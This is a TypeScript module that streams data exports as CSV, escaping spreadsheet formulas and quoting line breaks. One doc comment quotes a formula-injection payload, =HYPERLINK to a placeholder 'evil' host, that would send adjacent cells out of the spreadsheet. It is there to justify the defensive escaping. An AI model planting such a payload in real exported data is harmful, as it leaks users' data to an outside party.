import { stringify, type Options } from 'csv-stringify/sync'

/**
 * The one CSV writer of every export (traces, dead letters, …). Exported values come from
 * producers and from people editing replays, and a spreadsheet runs a cell that starts with `=`,
 * `+`, `-`, `@`, a tab or a carriage return as a formula (`=HYPERLINK("http://evil/?"&A2)` sends
 * the neighbouring cells away). csv-stringify's `escape_formulas` prefixes such text cells with an
 * apostrophe (numbers stay numbers); quoting follows RFC 4180 with CRLF line ends, which Excel
 * expects; times are ISO 8601 in UTC.
 *
 * Rows are pulled page by page as the client reads, so a large export never sits in memory. The
 * first page is read before the stream is handed out: a query that fails does so as an error
 * response, not as a "successful" file cut after its header.
 */

export type CsvValue = string | number | bigint | boolean | Date | null | undefined

export interface CsvColumn<T> {
  header: string
  value: (row: T) => CsvValue
}

const OPTIONS: Options = {
  escape_formulas: true,
  record_delimiter: 'windows',
  // With CRLF records csv-stringify quotes only a value holding the whole CRLF; a lone CR or LF
  // (multi-line error messages) must be quoted too, or readers split the row there.
  quoted_match: /[\r\n]/,
  cast: {
    date: (value) => value.toISOString(),
    boolean: (value) => String(value),
  },
}

/** Records as CSV text (no header): what every export writes, and what its tests read back. */
export function csvText(records: readonly (readonly CsvValue[])[]): string {
  return stringify(records as CsvValue[][], OPTIONS)
}

/**
 * Pages of rows from `pages` as a CSV stream with a header line. The generator's return value,
 * when it has one, becomes a last one-cell line: a note such as "cut at 10,000 rows".
 */
export async function csvStream<T>(columns: readonly CsvColumn<T>[], pages: AsyncGenerator<readonly T[], string | void>): Promise<ReadableStream<Uint8Array>> {
  const encoder = new TextEncoder()
  const header = csvText([columns.map((c) => c.header)])
  let ahead: IteratorResult<readonly T[], string | void> | null = await pages.next()
  return new ReadableStream<Uint8Array>({
    start(controller) {
      controller.enqueue(encoder.encode(header))
    },
    async pull(controller) {
      // Until something is enqueued: a pull that enqueues nothing is not called again.
      for (;;) {
        const step = ahead ?? (await pages.next())
        ahead = null
        if (step.done) {
          if (step.value) controller.enqueue(encoder.encode(csvText([[step.value]])))
          controller.close()
          return
        }
        if (step.value.length) {
          controller.enqueue(encoder.encode(csvText(step.value.map((row) => columns.map((c) => c.value(row))))))
          return
        }
      }
    },
    async cancel() {
      await pages.return(undefined)
    },
  })
}
